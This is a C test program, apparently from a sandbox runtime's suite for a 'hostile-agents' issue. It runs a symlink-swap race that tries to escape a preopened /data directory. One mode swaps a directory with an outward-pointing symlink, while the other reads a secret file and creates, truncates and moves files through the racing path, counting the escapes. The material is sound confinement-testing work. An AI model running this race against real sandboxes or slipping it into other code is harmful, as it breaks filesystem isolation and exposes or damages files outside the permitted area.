// Symlink-swap race (hostile-agents issue, item 1). Run with a writable
// preopen at /data holding: d/ (a real directory with secret.txt),
// sub/up -> .. (a symlink that points inside while it stays in sub/).
//   race swap MS  moves sub/up to /data/up (now it points OUTSIDE the
//                 preopen) and then, for MS milliseconds, swaps d with it:
//                 d -> tmp, up -> d, d -> up, tmp -> d
//   race probe MS for MS milliseconds: reads d/secret.txt (counts it as
//                 escaped when it got the outside file's text), creates
//                 d/created.txt, truncates d/victim.txt and moves d/victim.txt to
//                 /data/moved.txt and back (all outside when d is the link)
// Both print a final "done <counts>" line. Nothing else is printed.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int swap(long n) {
  if (rename("/data/sub/up", "/data/up") != 0) {
    // already moved by an earlier job
  }
  long ok = 0;
  long long end = now_ms() + n;
  while (now_ms() < end) {
    if (rename("/data/d", "/data/tmp") != 0) continue;
    if (rename("/data/up", "/data/d") == 0) {
      rename("/data/d", "/data/up");
      ok++;
    }
    rename("/data/tmp", "/data/d");
  }
  printf("done swaps=%ld\n", ok);
  return 0;
}

static int probe(long n) {
  long escaped = 0, reads = 0;
  char buf[64];
  long long end = now_ms() + n;
  while (now_ms() < end) {
    int fd = open("/data/d/secret.txt", O_RDONLY);
    if (fd >= 0) {
      ssize_t k = read(fd, buf, sizeof buf - 1);
      close(fd);
      if (k > 0) {
        buf[k] = 0;
        reads++;
        if (strncmp(buf, "OUTSIDE", 7) == 0) escaped++;
      }
    }
    for (int k = 0; k < 4; k++) {
      fd = open("/data/d/created.txt", O_WRONLY | O_CREAT, 0644);
      if (fd >= 0) close(fd);
    }
    fd = open("/data/d/victim.txt", O_WRONLY | O_TRUNC);
    if (fd >= 0) close(fd);
    if (rename("/data/d/victim.txt", "/data/moved.txt") == 0) {
      rename("/data/moved.txt", "/data/d/victim.txt");
    }
  }
  printf("done reads=%ld escaped=%ld\n", reads, escaped);
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  long n = atol(argv[2]);
  if (strcmp(argv[1], "swap") == 0) return swap(n);
  if (strcmp(argv[1], "probe") == 0) return probe(n);
  return 2;
}
